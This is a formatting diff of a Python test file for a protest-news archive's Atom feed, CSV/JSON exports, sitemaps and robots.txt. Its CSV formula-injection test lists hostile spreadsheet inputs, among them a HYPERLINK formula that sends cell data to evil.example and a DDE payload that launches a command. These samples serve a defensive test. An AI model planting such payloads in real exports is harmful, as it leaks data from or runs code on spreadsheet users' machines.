@@ -24,8 +24,23 @@ from .conftest import remove_index
 
 ATOM = "{http://www.w3.org/2005/Atom}"
 SITEMAP = "{http://www.sitemaps.org/schemas/sitemap/0.9}"
-CSV_HEADER = ["id", "title", "body", "published", "source", "cities", "actors", "country", "url",
-              "language", "slug", "permalink", "query", "archive", "exported"]
+CSV_HEADER = [
+    "id",
+    "title",
+    "body",
+    "published",
+    "source",
+    "cities",
+    "actors",
+    "country",
+    "url",
+    "language",
+    "slug",
+    "permalink",
+    "query",
+    "archive",
+    "exported",
+]
 
 
 @pytest.fixture
@@ -37,29 +52,64 @@ def corpus(index):
     tokayev = f.actor("Kassym-Jomart Tokayev", aliases=["Toqaev"])
     dvk = f.actor("Democratic Choice of Kazakhstan", aliases=["DVK"], kind="organisation")
     kz = f.country("Kazakhstan")
-    a1 = f.article("Police detain protesters in Almaty", "Police detained dozens of protesters.",
-                   published=dt.date(2019, 6, 10), source=rfe, cities=[almaty], actors=[tokayev],
-                   original_url="https://example.org/a1", record_id="r-1", countries=[kz])
-    a2 = f.article("Rally in the capital", "Supporters of the DVK rallied against Toqaev.\n\n"
-                   "A second paragraph.", published=dt.date(2020, 2, 22), source=rfe,
-                   cities=[astana, almaty], actors=[tokayev, dvk], language="ru", countries=[kz])
-    a3 = f.article("Court bans opposition movement", "The court banned the movement.",
-                   published=dt.date(2018, 3, 13), source=tass, cities=[astana], actors=[dvk])
-    draft = f.article("Unreleased zeppelin report", "A draft about protesters and a zeppelin.",
-                      status="draft", published=dt.date(2020, 3, 1), source=tass,
-                      cities=[almaty], actors=[tokayev])
+    a1 = f.article(
+        "Police detain protesters in Almaty",
+        "Police detained dozens of protesters.",
+        published=dt.date(2019, 6, 10),
+        source=rfe,
+        cities=[almaty],
+        actors=[tokayev],
+        original_url="https://example.org/a1",
+        record_id="r-1",
+        countries=[kz],
+    )
+    a2 = f.article(
+        "Rally in the capital",
+        "Supporters of the DVK rallied against Toqaev.\n\nA second paragraph.",
+        published=dt.date(2020, 2, 22),
+        source=rfe,
+        cities=[astana, almaty],
+        actors=[tokayev, dvk],
+        language="ru",
+        countries=[kz],
+    )
+    a3 = f.article(
+        "Court bans opposition movement",
+        "The court banned the movement.",
+        published=dt.date(2018, 3, 13),
+        source=tass,
+        cities=[astana],
+        actors=[dvk],
+    )
+    draft = f.article(
+        "Unreleased zeppelin report",
+        "A draft about protesters and a zeppelin.",
+        status="draft",
+        published=dt.date(2020, 3, 1),
+        source=tass,
+        cities=[almaty],
+        actors=[tokayev],
+    )
     return {"a1": a1, "a2": a2, "a3": a3, "draft": draft}
 
 
 def bulk_articles(n, *, published=dt.date(2021, 5, 1), word="Bulk"):
     """`n` published articles straight into the database, then queued for the index as every
     bulk write of the archive does."""
-    created = Article.objects.bulk_create([
-        Article(title=f"{word} report {i:05d}", slug=f"{word.lower()}-report-{i:05d}",
-                body=f"{word} protest report number {i}.", published=published,
-                status="published", fingerprint=f"{word}-{i}")
-        for i in range(n)
-    ], batch_size=500)
+    created = Article.objects.bulk_create(
+        [
+            Article(
+                title=f"{word} report {i:05d}",
+                slug=f"{word.lower()}-report-{i:05d}",
+                body=f"{word} protest report number {i}.",
+                published=published,
+                status="published",
+                fingerprint=f"{word}-{i}",
+            )
+            for i in range(n)
+        ],
+        batch_size=500,
+    )
     with transaction.atomic():
         search.enqueue(a.pk for a in created)
 
@@ -94,12 +144,14 @@ def links(element):
 def test_feed_holds_the_search_in_order_with_full_entries(client, corpus):
     root = feed(client)
     assert root.findtext(f"{ATOM}title") == "Protest Archive: all reports"
-    assert links(root) == {"alternate": "http://testserver/search/",
-                           "self": "http://testserver/search/feed/"}
+    assert links(root) == {"alternate": "http://testserver/search/", "self": "http://testserver/search/feed/"}
     assert root.findtext(f"{ATOM}id") == "http://testserver/search/"
     assert root.findtext(f"{ATOM}updated") == "2020-02-22T00:00:00+00:00"
-    assert entry_titles(root) == ["Rally in the capital", "Police detain protesters in Almaty",
-                                  "Court bans opposition movement"]
+    assert entry_titles(root) == [
+        "Rally in the capital",
+        "Police detain protesters in Almaty",
+        "Court bans opposition movement",
+    ]
     entry = root.findall(f"{ATOM}entry")[1]
     permalink = f"http://testserver/articles/{corpus['a1'].slug}/"
     assert links(entry) == {"alternate": permalink}
@@ -107,16 +159,20 @@ def test_feed_holds_the_search_in_order_with_full_entries(client, corpus):
     assert entry.findtext(f"{ATOM}published") == "2019-06-10T00:00:00+00:00"
     assert entry.findtext(f"{ATOM}updated") == "2019-06-10T00:00:00+00:00"
     assert entry.findtext(f"{ATOM}author/{ATOM}name") == "RFE/RL"
-    assert [c.get("term") for c in entry.findall(f"{ATOM}category")] == [
-        "Almaty", "Kassym-Jomart Tokayev"]
+    assert [c.get("term") for c in entry.findall(f"{ATOM}category")] == ["Almaty", "Kassym-Jomart Tokayev"]
     summary = entry.find(f"{ATOM}summary")
     assert summary.get("type") == "text"
     assert summary.text == "Police detained dozens of protesters."
     rally = root.findall(f"{ATOM}entry")[0]
     assert [c.get("term") for c in rally.findall(f"{ATOM}category")] == [
-        "Almaty", "Astana", "Democratic Choice of Kazakhstan", "Kassym-Jomart Tokayev"]
+        "Almaty",
+        "Astana",
+        "Democratic Choice of Kazakhstan",
+        "Kassym-Jomart Tokayev",
+    ]
     assert rally.findtext(f"{ATOM}summary") == (
-        "Supporters of the DVK rallied against Toqaev. A second paragraph.")
+        "Supporters of the DVK rallied against Toqaev. A second paragraph."
+    )
 
 
 def test_feed_follows_query_filters_and_sort(client, corpus):
@@ -130,7 +186,8 @@ def test_feed_follows_query_filters_and_sort(client, corpus):
     assert "oldest first" in root.findtext(f"{ATOM}subtitle")
     root = feed(client, "?city=astana&city=almaty&source=tass&year=2018&date_from=2018-01-01")
     assert root.findtext(f"{ATOM}title") == (
-        "Protest Archive: source: TASS; city: Astana or Almaty; year: 2018; from 1 January 2018")
+        "Protest Archive: source: TASS; city: Astana or Almaty; year: 2018; from 1 January 2018"
+    )
     assert entry_titles(root) == ["Court bans opposition movement"]
     # Paging parameters do not page a feed.
     assert entry_titles(feed(client, "?page=2&per_page=1")) == entry_titles(feed(client))
@@ -188,8 +245,9 @@ def test_unparseable_query_answers_400(client, corpus, url):
 
 
 @pytest.mark.parametrize("url", ["/search/feed/", "/search/export.csv", "/search/export.json"])
-def test_text_query_without_an_index_is_503_and_filters_still_work(client, transactional_db,
-                                                                   fresh_index, url):
+def test_text_query_without_an_index_is_503_and_filters_still_work(
+    client, transactional_db, fresh_index, url
+):
     f.article("Rally in the capital", published=dt.date(2020, 2, 22))
     remove_index(fresh_index)
     response = client.get(url + "?q=rally")
@@ -214,8 +272,10 @@ def export_csv(client, params=""):
     response = client.get("/search/export.csv" + params)
     assert response.status_code == 200
     assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
-    assert re.fullmatch(r'attachment; filename="protest-archive-[a-z0-9-]+-\d{8}T\d{6}Z\.csv"',
-                        response["Content-Disposition"])
+    assert re.fullmatch(
+        r'attachment; filename="protest-archive-[a-z0-9-]+-\d{8}T\d{6}Z\.csv"',
+        response["Content-Disposition"],
+    )
     body = read_stream(response).decode("utf-8")
     assert body.startswith("\ufeff")  # for spreadsheets; the import reads it too
     rows = list(csv.reader(io.StringIO(body[1:], newline="")))
@@ -227,8 +287,10 @@ def export_json(client, params=""):
     response = client.get("/search/export.json" + params)
     assert response.status_code == 200
     assert response["Content-Type"] == "application/json"
-    assert re.fullmatch(r'attachment; filename="protest-archive-[a-z0-9-]+-\d{8}T\d{6}Z\.json"',
-                        response["Content-Disposition"])
+    assert re.fullmatch(
+        r'attachment; filename="protest-archive-[a-z0-9-]+-\d{8}T\d{6}Z\.json"',
+        response["Content-Disposition"],
+    )
     data = json.loads(read_stream(response))
     assert list(data) == ["query", "archive", "exported", "results", "count"]
     assert data["count"] == len(data["results"])
@@ -249,18 +311,34 @@ def test_csv_export_holds_the_records_and_the_search_in_every_row(client, corpus
     assert_recent(rows[0]["exported"])
     records = [{k: v for k, v in r.items() if k not in ("query", "archive", "exported")} for r in rows]
     assert records == [
-        {"id": "r-1", "title": "Police detain protesters in Almaty",
-         "body": "Police detained dozens of protesters.", "published": "2019-06-10",
-         "source": "RFE/RL", "cities": "Almaty", "actors": "Kassym-Jomart Tokayev",
-         "country": "Kazakhstan", "url": "https://example.org/a1", "language": "en",
-         "slug": corpus["a1"].slug,
-         "permalink": f"http://testserver/articles/{corpus['a1'].slug}/"},
-        {"id": "", "title": "Rally in the capital",
-         "body": "Supporters of the DVK rallied against Toqaev.\n\nA second paragraph.",
-         "published": "2020-02-22", "source": "RFE/RL", "cities": "Almaty;Astana",
-         "actors": "Democratic Choice of Kazakhstan;Kassym-Jomart Tokayev",
-         "country": "Kazakhstan", "url": "", "language": "ru", "slug": corpus["a2"].slug,
-         "permalink": f"http://testserver/articles/{corpus['a2'].slug}/"},
+        {
+            "id": "r-1",
+            "title": "Police detain protesters in Almaty",
+            "body": "Police detained dozens of protesters.",
+            "published": "2019-06-10",
+            "source": "RFE/RL",
+            "cities": "Almaty",
+            "actors": "Kassym-Jomart Tokayev",
+            "country": "Kazakhstan",
+            "url": "https://example.org/a1",
+            "language": "en",
+            "slug": corpus["a1"].slug,
+            "permalink": f"http://testserver/articles/{corpus['a1'].slug}/",
+        },
+        {
+            "id": "",
+            "title": "Rally in the capital",
+            "body": "Supporters of the DVK rallied against Toqaev.\n\nA second paragraph.",
+            "published": "2020-02-22",
+            "source": "RFE/RL",
+            "cities": "Almaty;Astana",
+            "actors": "Democratic Choice of Kazakhstan;Kassym-Jomart Tokayev",
+            "country": "Kazakhstan",
+            "url": "",
+            "language": "ru",
+            "slug": corpus["a2"].slug,
+            "permalink": f"http://testserver/articles/{corpus['a2'].slug}/",
+        },
     ]
 
 
@@ -271,18 +349,34 @@ def test_json_export_holds_the_records_and_the_search(client, corpus):
     assert_recent(data["exported"])
     assert data["count"] == 2
     assert data["results"] == [
-        {"id": None, "title": "Rally in the capital",
-         "body": "Supporters of the DVK rallied against Toqaev.\n\nA second paragraph.",
-         "published": "2020-02-22", "source": "RFE/RL", "cities": ["Almaty", "Astana"],
-         "actors": ["Democratic Choice of Kazakhstan", "Kassym-Jomart Tokayev"],
-         "country": "Kazakhstan", "url": None, "language": "ru", "slug": corpus["a2"].slug,
-         "permalink": f"http://testserver/articles/{corpus['a2'].slug}/"},
-        {"id": "r-1", "title": "Police detain protesters in Almaty",
-         "body": "Police detained dozens of protesters.", "published": "2019-06-10",
-         "source": "RFE/RL", "cities": ["Almaty"], "actors": ["Kassym-Jomart Tokayev"],
-         "country": "Kazakhstan", "url": "https://example.org/a1", "language": "en",
-         "slug": corpus["a1"].slug,
-         "permalink": f"http://testserver/articles/{corpus['a1'].slug}/"},
+        {
+            "id": None,
+            "title": "Rally in the capital",
+            "body": "Supporters of the DVK rallied against Toqaev.\n\nA second paragraph.",
+            "published": "2020-02-22",
+            "source": "RFE/RL",
+            "cities": ["Almaty", "Astana"],
+            "actors": ["Democratic Choice of Kazakhstan", "Kassym-Jomart Tokayev"],
+            "country": "Kazakhstan",
+            "url": None,
+            "language": "ru",
+            "slug": corpus["a2"].slug,
+            "permalink": f"http://testserver/articles/{corpus['a2'].slug}/",
+        },
+        {
+            "id": "r-1",
+            "title": "Police detain protesters in Almaty",
+            "body": "Police detained dozens of protesters.",
+            "published": "2019-06-10",
+            "source": "RFE/RL",
+            "cities": ["Almaty"],
+            "actors": ["Kassym-Jomart Tokayev"],
+            "country": "Kazakhstan",
+            "url": "https://example.org/a1",
+            "language": "en",
+            "slug": corpus["a1"].slug,
+            "permalink": f"http://testserver/articles/{corpus['a1'].slug}/",
+        },
     ]
 
 
@@ -290,9 +384,12 @@ def test_exports_follow_relevance_and_filters(client, corpus):
     expected = [r["title"] for r in client.get("/api/search/?q=protesters").json()["results"]]
     assert [r["title"] for r in export_json(client, "?q=protesters")["results"]] == expected
     assert [r["title"] for r in export_csv(client, "?year=2018&year=2020")] == [
-        "Rally in the capital", "Court bans opposition movement"]
+        "Rally in the capital",
+        "Court bans opposition movement",
+    ]
     assert [r["title"] for r in export_csv(client, "?date_from=2019-06-10&date_to=2019-06-10")] == [
-        "Police detain protesters in Almaty"]
+        "Police detain protesters in Almaty"
+    ]
 
 
 def test_empty_exports_are_valid(client, corpus):
@@ -302,9 +399,14 @@ def test_empty_exports_are_valid(client, corpus):
 
 
 def test_drafts_never_appear_anywhere(client, corpus):
-    for url in ["/search/feed/", "/search/feed/?q=zeppelin", "/search/export.csv",
-                "/search/export.csv?q=zeppelin", "/search/export.json",
-                "/search/export.json?q=zeppelin"]:
+    for url in [
+        "/search/feed/",
+        "/search/feed/?q=zeppelin",
+        "/search/export.csv",
+        "/search/export.csv?q=zeppelin",
+        "/search/export.json",
+        "/search/export.json?q=zeppelin",
+    ]:
         response = client.get(url)
         assert response.status_code == 200, url
         content = read_stream(response) if response.streaming else response.content
@@ -317,8 +419,7 @@ def test_drafts_never_appear_anywhere(client, corpus):
 
 
 @pytest.mark.parametrize("params", ["", "?q=bulk", "?q=bulk&sort=oldest"])
-def test_export_of_a_large_result_set_is_streamed_whole(client, index, params,
-                                                        django_assert_max_num_queries):
+def test_export_of_a_large_result_set_is_streamed_whole(client, index, params, django_assert_max_num_queries):
     bulk_articles(1200)
     search.rebuild()
     slugs = {f"bulk-report-{i:05d}" for i in range(1200)}
@@ -345,8 +446,7 @@ def test_csv_export_imports_into_an_empty_archive(client, corpus, tmp_path):
     call_command("import_articles", str(path), "--status", "published", stdout=out)
     assert "created 3, updated 0, unchanged 0, merged 0, failed 0" in out.getvalue()
     after = export_csv(client)
-    fields = ("id", "title", "body", "published", "source", "cities", "actors", "country",
-              "url", "language")
+    fields = ("id", "title", "body", "published", "source", "cities", "actors", "country", "url", "language")
     assert [{k: r[k] for k in fields} for r in after] == [{k: r[k] for k in fields} for r in before]
 
 
@@ -357,8 +457,9 @@ def sitemap_locs(client, url):
     response = client.get(url)
     assert response.status_code == 200
     root = ET.fromstring(response.content)
-    return [(u.findtext(f"{SITEMAP}loc"), u.findtext(f"{SITEMAP}lastmod"))
-            for u in root.findall(f"{SITEMAP}url")]
+    return [
+        (u.findtext(f"{SITEMAP}loc"), u.findtext(f"{SITEMAP}lastmod")) for u in root.findall(f"{SITEMAP}url")
+    ]
 
 
 def test_sitemap_lists_published_articles_and_entities_only(client, corpus):
@@ -368,22 +469,28 @@ def test_sitemap_lists_published_articles_and_entities_only(client, corpus):
     index_root = ET.fromstring(client.get("/sitemap.xml").content)
     assert [s.findtext(f"{SITEMAP}loc") for s in index_root.findall(f"{SITEMAP}sitemap")] == [
         f"http://testserver/sitemap-{name}.xml"
-        for name in ("articles", "sources", "cities", "actors", "countries", "dates")]
+        for name in ("articles", "sources", "cities", "actors", "countries", "dates")
+    ]
 
     articles = sitemap_locs(client, "/sitemap-articles.xml")
     expected = sorted((corpus[k].pk, corpus[k]) for k in ("a1", "a2", "a3"))
-    assert articles == [(f"http://testserver/articles/{a.slug}/",
-                         timezone.localdate(a.updated).isoformat()) for _, a in expected]
+    assert articles == [
+        (f"http://testserver/articles/{a.slug}/", timezone.localdate(a.updated).isoformat())
+        for _, a in expected
+    ]
     cities = [loc for loc, _ in sitemap_locs(client, "/sitemap-cities.xml")]
     assert cities == ["http://testserver/cities/almaty/", "http://testserver/cities/astana/"]
     actors = [loc for loc, _ in sitemap_locs(client, "/sitemap-actors.xml")]
-    assert actors == ["http://testserver/actors/kassym-jomart-tokayev/",
-                      "http://testserver/actors/democratic-choice-of-kazakhstan/"]
+    assert actors == [
+        "http://testserver/actors/kassym-jomart-tokayev/",
+        "http://testserver/actors/democratic-choice-of-kazakhstan/",
+    ]
     sources = [loc for loc, _ in sitemap_locs(client, "/sitemap-sources.xml")]
     assert sources == ["http://testserver/sources/rfe-rl/", "http://testserver/sources/tass/"]
     dates = [loc for loc, _ in sitemap_locs(client, "/sitemap-dates.xml")]
-    assert dates == [f"http://testserver/archive/{p}/" for p in
-                     ("2018", "2019", "2020", "2018/03", "2019/06", "2020/02")]
+    assert dates == [
+        f"http://testserver/archive/{p}/" for p in ("2018", "2019", "2020", "2018/03", "2019/06", "2020/02")
+    ]
     everything = " ".join(cities + actors + sources + dates + [loc for loc, _ in articles])
     assert "?" not in everything and "/search/" not in everything
     assert lonely.slug not in everything and drafted.slug not in everything
@@ -393,8 +500,10 @@ def test_sitemap_sections_are_paginated(client, corpus, monkeypatch):
     monkeypatch.setattr(ArticleSitemap, "limit", 2)
     index_root = ET.fromstring(client.get("/sitemap.xml").content)
     locs = [s.findtext(f"{SITEMAP}loc") for s in index_root.findall(f"{SITEMAP}sitemap")]
-    assert locs[:2] == ["http://testserver/sitemap-articles.xml",
-                        "http://testserver/sitemap-articles.xml?p=2"]
+    assert locs[:2] == [
+        "http://testserver/sitemap-articles.xml",
+        "http://testserver/sitemap-articles.xml?p=2",
+    ]
     first = sitemap_locs(client, "/sitemap-articles.xml")
     second = sitemap_locs(client, "/sitemap-articles.xml?p=2")
     assert (len(first), len(second)) == (2, 1)
@@ -425,26 +534,55 @@ def test_robots_txt_keeps_crawlers_out_of_searches_and_points_to_the_sitemap(cli
     lines = [line.strip() for line in response.content.decode().splitlines()]
     assert "User-agent: *" in lines
     assert "Sitemap: http://testserver/sitemap.xml" in lines
-    rules = [(k.strip().lower(), v.strip()) for k, _, v in
-             (line.partition(":") for line in lines) if k.strip().lower() in ("allow", "disallow")]
-    allowed = ["/", "/search/", "/articles/a-report/", "/cities/", "/cities/almaty/?page=2",
-               "/archive/2020/06/", "/sitemap.xml"]
-    blocked = ["/search/?q=protest", "/search/?city=almaty&year=2020", "/search/feed/?q=x",
-               "/search/export.csv", "/search/export.json?q=x", "/api/search/",
-               "/api/articles/a-report/", "/admin/", "/admin/login/"]
+    rules = [
+        (k.strip().lower(), v.strip())
+        for k, _, v in (line.partition(":") for line in lines)
+        if k.strip().lower() in ("allow", "disallow")
+    ]
+    allowed = [
+        "/",
+        "/search/",
+        "/articles/a-report/",
+        "/cities/",
+        "/cities/almaty/?page=2",
+        "/archive/2020/06/",
+        "/sitemap.xml",
+    ]
+    blocked = [
+        "/search/?q=protest",
+        "/search/?city=almaty&year=2020",
+        "/search/feed/?q=x",
+        "/search/export.csv",
+        "/search/export.json?q=x",
+        "/api/search/",
+        "/api/articles/a-report/",
+        "/admin/",
+        "/admin/login/",
+    ]
     assert [p for p in allowed if not robots_allows(rules, p)] == []
     assert [p for p in blocked if robots_allows(rules, p)] == []
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(1,1)",
-            "\tTabbed", "'=quoted already"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "\tTabbed",
+    "'=quoted already",
+]
 
 
 def test_csv_cells_never_run_as_spreadsheet_formulas(client, index, tmp_path):
     evil_source = f.source("=cmd|' /C calc'!A0")
     for i, title in enumerate(FORMULAS):
-        f.article(title, f"Body {i} mentions protest.", source=evil_source,
-                  cities=[f.city(f"-City{i}")], record_id=f"=id{i}")
+        f.article(
+            title,
+            f"Body {i} mentions protest.",
+            source=evil_source,
+            cities=[f.city(f"-City{i}")],
+            record_id=f"=id{i}",
+        )
     rows = list(csv.reader(io.StringIO(read_stream(client.get("/search/export.csv")).decode("utf-8-sig"))))
     cells = [cell for row in rows[1:] for cell in row]
     assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
@@ -461,16 +599,18 @@ def test_csv_cells_never_run_as_spreadsheet_formulas(client, index, tmp_path):
     Article.objects.all().delete()
     call_command("import_articles", str(tmp_path / "all.csv"), stdout=StringIO())
     # (Import collapses whitespace in titles, the tab included.)
-    assert sorted(Article.objects.values_list("title", flat=True)) == sorted(" ".join(t.split())
-                                                                             for t in FORMULAS)
+    assert sorted(Article.objects.values_list("title", flat=True)) == sorted(
+        " ".join(t.split()) for t in FORMULAS
+    )
     assert set(Article.objects.values_list("source__name", flat=True)) == {"=cmd|' /C calc'!A0"}
     again = StringIO()
     call_command("export_articles", "--format", "csv", stdout=again)
     assert again.getvalue() == exported.replace("'\tTabbed", "Tabbed")
 
 
-@pytest.mark.parametrize("url", ["/search/", "/search/feed/", "/search/export.csv", "/search/export.json",
-                                 "/api/search/"])
+@pytest.mark.parametrize(
+    "url", ["/search/", "/search/feed/", "/search/export.csv", "/search/export.json", "/api/search/"]
+)
 def test_year_zero_is_a_bad_parameter_everywhere(client, corpus, url):
     response = client.get(url, {"year": "0000"})
     assert response.status_code == (200 if url == "/search/" else 400)
